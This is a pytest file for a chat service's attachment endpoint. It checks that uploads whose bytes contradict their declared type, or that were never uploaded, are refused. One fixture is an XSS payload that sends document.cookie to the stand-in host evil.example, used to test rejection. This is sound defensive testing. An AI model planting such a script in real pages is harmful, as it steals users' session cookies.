"""An attachment message is stored only if the upload exists and its first bytes fit the
declared type: one ranged GetObject, checked on moto's S3."""
from __future__ import annotations

import boto3
import pytest

from tests.helpers.api import Api
from tests.helpers.aws import AwsCallCounter

PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
HTML = b"<html><script>document.location='https://evil.example/'+document.cookie</script>"


@pytest.fixture
def api(deps, site, aws, monkeypatch):
    import app as app_module
    monkeypatch.setenv("PARLEY_ATTACHMENTS_BUCKET", aws["AttachmentsBucketName"])
    return Api(app_module.app)


def upload(api, s, name, ctype, body, put=True):
    cid = s["conversation_id"]
    status, data = api.post(f"/v1/visitor/conversations/{cid}/attachments",
                            {"name": name, "content_type": ctype, "size": len(body)},
                            token=s["token"])
    assert status == 200, data
    att = data["attachment"]
    if put:
        boto3.client("s3").put_object(Bucket=_bucket(), Key=att["key"], Body=body,
                                      ContentType=ctype)
    return att


def _bucket():
    from chalicelib import config
    return config.attachments_bucket()


def send(api, s, att, cmid):
    return api.post(f"/v1/visitor/conversations/{s['conversation_id']}/messages",
                    {"client_message_id": cmid, "attachment": att}, token=s["token"])


def test_a_file_whose_bytes_contradict_its_type_is_refused_and_nothing_is_stored(api, deps):
    s = api.visitor_session()
    att = upload(api, s, "cute.png", "image/png", HTML)
    status, data = send(api, s, att, "m1")
    assert status == 400 and data["error"]["code"] == "content_mismatch"
    assert deps.conversations.get(s["conversation_id"], consistent=True)["last_seq"] == 0

    att = upload(api, s, "real.png", "image/png", PNG)
    with AwsCallCounter(deps) as counter:
        status, data = send(api, s, att, "m2")
    assert status == 201, data
    assert data["message"]["attachment"]["content_type"] == "image/png"
    assert counter.by_service("s3") == ["s3:GetObject"]          # one ranged read
    assert deps.conversations.get(s["conversation_id"], consistent=True)["last_seq"] == 1


def test_a_message_naming_a_file_never_uploaded_is_refused(api, deps):
    s = api.visitor_session()
    att = upload(api, s, "ghost.pdf", "application/pdf", b"%PDF-1.4\n", put=False)
    status, data = send(api, s, att, "m1")
    assert status == 400 and data["error"]["code"] == "attachment_missing"
    assert deps.conversations.get(s["conversation_id"], consistent=True)["last_seq"] == 0
